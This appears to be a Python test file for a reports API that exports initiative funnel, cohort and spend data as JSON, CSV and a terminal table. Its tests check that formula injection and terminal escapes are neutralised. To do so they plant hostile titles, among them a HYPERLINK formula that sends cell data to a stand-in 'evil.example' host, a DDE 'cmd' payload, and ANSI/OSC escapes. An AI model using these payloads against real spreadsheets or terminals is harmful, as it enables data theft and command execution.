"""Reports over HTTP: JSON with the contract's fields, CSV, filters, unknown names; and the terminal table."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from typing import Any

import asyncpg
import httpx

from api.routes.reports import csv_cell
from schemas.classification import DeploymentTarget, Procurement
from schemas.stages import InitiativeStatus
from schemas.taxonomy import ReasonCode
from tests.api.conftest import auth, submission
from tests.db.test_events_repo import T0
from tests.db.test_reports import _record, _start
from worker.report_table import render_table


async def test_every_report_answers_json_and_csv(api: httpx.AsyncClient) -> None:
    team = "reports-api-team"
    created = await api.post("/v1/initiatives", json=submission(team="ml-platform"), headers=auth("alice@example.com"))
    assert created.status_code == 201
    for name in ("funnel", "stall-reasons", "scrap-reasons", "time-in-stage", "stalled-now", "sunk-cost", "alignment"):
        response = await api.get(f"/v1/reports/{name}", params={"team": team}, headers=auth("vic@example.com"))
        assert response.status_code == 200, response.text
        body = response.json()
        assert body["report"] == name
        assert body["filters"]["team"] == team
        as_csv = await api.get(
            f"/v1/reports/{name}", params={"format": "csv", "team": team}, headers=auth("vic@example.com")
        )
        assert as_csv.status_code == 200
        assert as_csv.headers["content-type"].startswith("text/csv")
    funnel = (await api.get("/v1/reports/funnel", params={"team": team}, headers=auth("vic@example.com"))).json()
    assert {
        "total",
        "stages",
        "entered_poc",
        "scrapped_in_poc",
        "entered_infra_review",
        "scrapped_after_poc",
        "reached_production",
        "poc_abandonment_rate",
        "post_poc_scrap_rate",
        "pilot_to_production_rate",
    } <= set(funnel)
    assert funnel["total"] == 0
    assert funnel["poc_abandonment_rate"] is None


async def test_funnel_csv_lists_the_stages(api: httpx.AsyncClient) -> None:
    response = await api.get(
        "/v1/reports/funnel", params={"format": "csv", "team": "nobody"}, headers=auth("vic@example.com")
    )
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["stage"] for r in rows[:6]] == ["proposed", "poc", "infra_review", "it_signoff", "rollout", "production"]


async def test_bad_report_requests(api: httpx.AsyncClient) -> None:
    unknown = await api.get("/v1/reports/velocity", headers=auth("vic@example.com"))
    assert unknown.status_code == 404
    assert "available: funnel" in unknown.json()["detail"]
    bad_date = await api.get("/v1/reports/funnel", params={"since": "yesterday"}, headers=auth("vic@example.com"))
    assert bad_date.status_code == 422
    bad_format = await api.get("/v1/reports/funnel", params={"format": "xml"}, headers=auth("vic@example.com"))
    assert bad_format.status_code == 422
    assert (await api.get("/v1/reports/funnel")).status_code == 401


def test_render_table_aligns_columns() -> None:
    table = render_table([{"code": "APPROVAL_PENDING", "stalls": 12}, {"code": "FINDINGS_OPEN", "stalls": 3}])
    assert table.splitlines() == [
        "code              stalls",
        "----------------  ------",
        "APPROVAL_PENDING      12",
        "FINDINGS_OPEN          3",
    ]
    assert render_table([]) == "(no rows)"


async def test_csv_and_table_neutralise_formulas_and_terminal_escapes(
    api: httpx.AsyncClient, pool: asyncpg.Pool
) -> None:
    """A title written as a spreadsheet formula reaches CSV as text; one with ANSI escapes cannot drive a terminal."""
    team = f"csv-{uuid.uuid4().hex[:8]}"
    titles = {
        "f": '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "p": "+1+cmd|' /C calc'!A0",
        "t": "\tplain after a tab",
        "e": "\x1b]0;pwned\x07\x1b[2Jquiet \u202eevil",
    }
    async with pool.acquire() as conn:
        for key, title in titles.items():
            iid = f"{key}-{uuid.uuid4().hex[:12]}"
            walk = _start(iid, T0).stall(ReasonCode.APPROVAL_PENDING)
            await _record(
                conn,
                walk,
                team=team,
                bu="@SUM(A1:A9)",
                procurement=Procurement.IT_PLAN,
                target=DeploymentTarget.ON_PREM,
                submitted_at=T0,
                status=InitiativeStatus.STALLED,
                awaiting_roles=["portfolio"],
                title=title,
            )

    as_json = await api.get("/v1/reports/stalled-now", params={"team": team}, headers=auth("vic@example.com"))
    assert sorted(r["title"] for r in as_json.json()["rows"]) == sorted(titles.values())  # JSON keeps the data
    as_csv = await api.get(
        "/v1/reports/stalled-now", params={"team": team, "format": "csv"}, headers=auth("vic@example.com")
    )
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert sorted(r["title"] for r in rows) == sorted(
        ["'" + titles["f"], "'" + titles["p"], "'" + titles["t"], titles["e"]]
    )
    assert {r["business_unit"] for r in rows} == {"'@SUM(A1:A9)"}
    assert {r["stalled_seconds"].lstrip("'") == r["stalled_seconds"] for r in rows} == {True}

    table = render_table(as_json.json()["rows"])
    assert not any(c in table for c in "\x1b\x07\u202e")
    assert "\\x1b]0;pwned\\x07\\x1b[2Jquiet \\u202eevil" in table


def test_csv_cells_keep_numbers_and_ordinary_text() -> None:
    assert csv_cell(-5) == -5
    assert csv_cell(2.5) == 2.5
    assert csv_cell("ml-platform") == "ml-platform"
    assert csv_cell("-1") == "'-1"
    assert csv_cell(["=a", "b"]) == "'=a|b"
    assert csv_cell("\rcmd") == "'\rcmd"
    assert csv_cell(None) is None


async def test_cohorts_over_http_by_month_and_quarter_json_and_csv(api: httpx.AsyncClient) -> None:
    unit = f"cohort-{uuid.uuid4().hex[:8]}"
    created = await api.post("/v1/initiatives", json=submission(business_unit=unit), headers=auth("alice@example.com"))
    assert created.status_code == 201
    viewer = auth("vic@example.com")
    body: dict[str, Any] = {}
    for _ in range(100):  # the read model follows the workflow's first event
        body = (await api.get("/v1/reports/cohorts", params={"business_unit": unit}, headers=viewer)).json()
        if body["rows"]:
            break
        await asyncio.sleep(0.1)
    assert body["report"] == "cohorts"
    assert body["period"] == "month"
    [row] = body["rows"]
    assert row["submitted"] == 1
    assert row["still_open"] == 1
    assert row["reached_poc"] == 0
    assert row["poc_abandonment_rate"] is None  # nothing to divide by
    assert body["base_rates"] == {
        "poc_abandonment_rate": 0.39,
        "post_poc_scrap_rate": 0.46,
        "pilot_to_production_rate": 0.33,
    }
    by_quarter = {"business_unit": unit, "period": "quarter"}
    quarter = (await api.get("/v1/reports/cohorts", params=by_quarter, headers=viewer)).json()
    assert quarter["rows"][0]["period"].split("-Q")[1] in {"1", "2", "3", "4"}
    as_csv = await api.get("/v1/reports/cohorts", params={"business_unit": unit, "format": "csv"}, headers=viewer)
    [csv_row] = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert csv_row["submitted"] == "1"
    assert list(csv_row)[:3] == ["period", "submitted", "reached_poc"]
    bad = await api.get("/v1/reports/cohorts", params={"period": "week"}, headers=viewer)
    assert bad.status_code == 422
    assert "period" in bad.text
    assert (await api.get("/v1/reports/cohorts")).status_code == 401


async def test_spend_over_http_json_and_csv_with_formulas_neutralised(api: httpx.AsyncClient) -> None:
    unit = f"spend-{uuid.uuid4().hex[:8]}"
    body = submission(business_unit=unit, title="=HYPERLINK(evil)", budget_usd=12_345)
    assert (await api.post("/v1/initiatives", json=body, headers=auth("alice@example.com"))).status_code == 201
    viewer = auth("vic@example.com")
    report: dict[str, Any] = {}
    for _ in range(100):
        report = (await api.get("/v1/reports/spend", params={"business_unit": unit}, headers=viewer)).json()
        if report["rows"]:
            break
        await asyncio.sleep(0.1)
    assert report["report"] == "spend"
    assert report["over_budget_at"] == 1.0
    [row] = report["rows"]
    assert (row["title"], row["budget_usd"], row["provisioned_usd"], row["over_budget"]) == (
        "=HYPERLINK(evil)",
        12345.0,
        0.0,
        False,
    )
    assert report["totals"]["initiatives"] == 1
    assert [r["value"] for r in report["by_business_unit"]] == [unit]
    as_csv = await api.get("/v1/reports/spend", params={"business_unit": unit, "format": "csv"}, headers=viewer)
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [r["by"] for r in rows] == ["initiative", "team", "business_unit", "total"]
    assert rows[0]["title"] == "'=HYPERLINK(evil)"
    too_many = await api.get("/v1/reports/spend", params={"limit": 100_000}, headers=viewer)
    assert too_many.status_code == 422
